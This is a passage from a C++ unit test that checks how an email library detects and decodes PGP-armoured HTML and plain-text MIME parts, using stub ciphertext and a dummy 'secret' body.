    EXPECT_EQ(seen[0].first, TPartForm::ArmouredHtml);
    EXPECT_EQ(
        seen[0].second, "<div>-----BEGIN PGP MESSAGE-----<br>hQ==<br>-----END PGP MESSAGE-----</div>\r\n");
    seen.clear();
    parts = DecodeProtectedParts(alternative, decode);
    EXPECT_EQ(parts.Decoded, 2);
    ASSERT_EQ(seen.size(), 2u);
    EXPECT_EQ(seen[0].first, TPartForm::ArmouredText);
    EXPECT_EQ(seen[1].first, TPartForm::ArmouredHtml);
    EXPECT_NE(parts.Message.find(
                  "Content-Type: text/plain\r\nContent-Transfer-Encoding: 8bit\r\n\r\nsecret\r\n--a\r\n"),
        std::string::npos)
        << parts.Message;
}

} // namespace
